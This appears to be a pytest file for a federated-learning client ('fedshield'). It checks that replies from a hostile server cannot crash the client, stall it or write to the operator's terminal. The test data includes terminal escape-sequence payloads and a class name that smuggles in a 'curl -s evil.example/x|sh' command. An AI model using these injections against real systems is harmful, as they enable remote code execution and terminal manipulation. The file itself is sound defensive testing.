"""Text across a trust boundary (red-team findings, issue 13): what a hostile server
publishes cannot crash an owner's client, hold it, or write escape sequences to its
terminal; what a hostile owner calls itself cannot reach the operator's terminal."""

from __future__ import annotations

import json
import socket
import ssl
import threading
import time
from pathlib import Path

import pytest

from fedshield.client import published
from fedshield.client.node_settings import SuperNodeSettings
from fedshield.common.config import OwnerConfig
from fedshield.common.errors import ConfigError, FedshieldError
from fedshield.common.federation_info import FEDERATION_FORMAT, FEDERATION_PATH
from fedshield.common.pki import init_ca, issue_server_certificate
from fedshield.common.untrusted import owner_label, printable
from tests.support.ports import free_port

ESC = "\x1b"


def test_an_owner_label_must_look_like_a_label():
    assert owner_label("hospital-a") == "hospital-a"
    assert owner_label("owner-ab+/xY12") == "owner-ab+/xY12"  # the default, from a key digest
    assert owner_label(f"hosp{ESC}[2J{ESC}]8;;https://evil.example/") is None
    assert owner_label("x" * 65) is None and owner_label("") is None
    assert ESC not in printable(f"a{ESC}[31mred\x9b")
    with pytest.raises(ConfigError, match="owner-id"):
        OwnerConfig.from_dict({"data-path": "x.csv", "epsilon-budget": 1, "owner-id": f"a{ESC}"})


class HostileServer:
    """A TLS server (certificate from the federation's CA) that answers one crafted reply."""

    def __init__(self, pki: Path) -> None:
        self.context = ssl.create_default_context(ssl.Purpose.CLIENT_AUTH)
        self.context.load_cert_chain(pki / "server.pem", pki / "server.key")
        self.listener = socket.create_server(("127.0.0.1", 0))
        self.port = self.listener.getsockname()[1]
        self.reply: bytes | list[bytes] = b""
        threading.Thread(target=self._serve, daemon=True).start()

    def _serve(self) -> None:
        while True:
            raw, _ = self.listener.accept()
            threading.Thread(target=self._answer, args=(raw, self.reply), daemon=True).start()

    def _answer(self, raw: socket.socket, reply: bytes | list[bytes]) -> None:
        try:
            with self.context.wrap_socket(raw, server_side=True) as conn:
                conn.recv(65536)
                parts = reply if isinstance(reply, list) else [reply]
                for part in parts:
                    conn.sendall(part)
                    if len(parts) > 1:
                        time.sleep(0.3)  # dripping, each part well within a read timeout
        except OSError:
            pass


@pytest.fixture(scope="module")
def hostile(tmp_path_factory):
    pki = tmp_path_factory.mktemp("pki")
    init_ca(pki)
    issue_server_certificate(pki, ["127.0.0.1"])
    server = HostileServer(pki)
    settings = SuperNodeSettings(
        superlink=f"127.0.0.1:{server.port}",
        ca=pki / "ca.crt",
        auth_key=None,
        owner=OwnerConfig.from_dict({"data-path": "x.csv", "epsilon-budget": 1}),
        port=free_port(),
    )
    return server, settings


def json_reply(body: bytes, status: str = "200 OK") -> bytes:
    return (
        f"HTTP/1.1 {status}\r\nContent-Type: application/json\r\n"
        f"Content-Length: {len(body)}\r\nConnection: close\r\n\r\n"
    ).encode() + body


@pytest.mark.parametrize(
    "reply",
    [
        json_reply(b"[" * 200_000 + b"]" * 200_000),  # nesting deeper than the parser's stack
        f"HTTP/1.1 {ESC}[2J{ESC}]0;PWN\x07GARBAGE\r\n\r\n".encode(),  # a malformed status line
        json_reply(b"{}", status=f"500 Oops {ESC}]0;PWNED{ESC}[31mFAKE"),  # escapes in the reason
    ],
    ids=["deep-json", "bad-status-line", "escape-in-reason"],
)
def test_a_malformed_answer_is_one_clean_error(hostile, reply):
    server, settings = hostile
    server.reply = reply
    with pytest.raises(FedshieldError) as refused:
        published.get_published(settings, FEDERATION_PATH)
    assert ESC not in str(refused.value) and "\x07" not in str(refused.value)
    info = published.fetch_federation_info(settings)  # never fatal: a problem line, no traceback
    assert info.classes is None and ESC not in info.problem


def test_a_server_dripping_its_answer_cannot_hold_the_owner(hostile, monkeypatch):
    server, settings = hostile
    monkeypatch.setattr(published, "PUBLISHED_TIMEOUT_S", 1.0)  # the whole exchange: 6 s
    header = b"HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nContent-Length: 1000\r\n\r\n"
    server.reply = [header, *([b" "] * 80)]
    started = time.monotonic()
    with pytest.raises(FedshieldError, match="no complete answer"):
        published.get_published(settings, FEDERATION_PATH)
    assert time.monotonic() - started < 10


def test_a_class_name_cannot_carry_a_shell_command(hostile):
    server, settings = hostile
    classes = ["neg", "pos'; curl -s evil.example/x|sh; echo '"]
    server.reply = json_reply(
        json.dumps({"format": FEDERATION_FORMAT, "classes": classes}).encode()
    )
    info = published.fetch_federation_info(settings)
    assert info.classes is None and "class names" in info.problem
